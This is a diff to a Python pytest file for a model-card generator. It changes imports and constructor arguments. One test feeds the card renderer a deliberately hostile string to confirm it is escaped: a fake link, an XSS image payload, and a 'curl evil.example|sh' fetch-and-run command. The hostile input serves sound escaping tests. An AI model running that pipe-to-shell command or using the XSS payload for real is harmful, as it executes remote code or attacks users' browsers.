@@ -10,10 +10,11 @@ from pathlib import Path
 import pytest
 from huggingface_hub import ModelCard
 
-from relay.app.cli import Trm
+from relay.app.models.trm import Trm
 from relay.app.views.modelcard import Told, card
 from tests.app.cli import Desk
 from tests.core.making import begun, checkpoint
+from tests.core.toy import MEASURES
 
 SMALL = ("batch_size=4", "data.train_rows=8", "arch.hidden_size=16", "arch.num_heads=2", "arch.H_cycles=1",
          "arch.L_cycles=1")  # fmt: skip
@@ -23,7 +24,7 @@ SECRET = "hf_abcdefghijklmnop1234"
 @pytest.fixture(scope="module")
 def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
     """Two people's sessions; the last commit was evaluated."""
-    desk = Desk(tmp_path_factory.mktemp("cards"), {"HF_TOKEN": SECRET}, kind=Trm())  # type: ignore[arg-type]
+    desk = Desk(tmp_path_factory.mktemp("cards"), {"HF_TOKEN": SECRET}, plugin=Trm())  # type: ignore[arg-type]
     desk("register", "account_1", "Ana's Colab")
     desk.train(2, *SMALL, "evaluation.every_commits=0")
     desk.train(4, *SMALL, "evaluation.rows=8", account="account_2")
@@ -77,7 +78,9 @@ def test_text_from_the_store_breaks_neither_the_yaml_nor_the_numbers() -> None:
     state = client.ledger.read().state
     pinned = {"task": "x: [y\n---\n", "batch_size": 4}
     metrics = {"valid/exact: {a": 0.5, "valid/n": 8.0, "loss": 1.0}
-    text = card(Told(state, checkpoint(5, 1), "newest checkpoint", pinned, True, metrics, ["task=x"]))
+    text = card(
+        Told(state, checkpoint(5, 1), "newest checkpoint", pinned, True, metrics, ["task=x"], MEASURES, Trm.published)
+    )
     read = ModelCard(text)
     assert [result.metric_value for result in read.data.eval_results or []] == [0.5]
 
@@ -89,7 +92,17 @@ def test_text_from_the_store_is_shown_as_text_and_is_no_markup_and_no_shell_comm
     evil = "x` |\n\n# Win [here](http://evil.example)\n```\n<img src=x onerror=alert(1)>; curl evil.example|sh"
     pinned = {"task": evil, "batch_size": 4, "data": {evil: evil, "train": "sha256:00"}, "arch": {"x": evil}}
     metrics = {"valid/a|[b](http://evil.example)<img src=x>`": 0.5, "valid/n": 8.0}
-    told = Told(client.ledger.read().state, checkpoint(5, 1), "x", pinned, True, metrics, [f"task={evil}"])
+    told = Told(
+        client.ledger.read().state,
+        checkpoint(5, 1),
+        "x",
+        pinned,
+        True,
+        metrics,
+        [f"task={evil}"],
+        MEASURES,
+        Trm.published,
+    )
     body = ModelCard(card(told)).text
     lines = body.splitlines()
     assert [line for line in lines if line.startswith("#")] == [
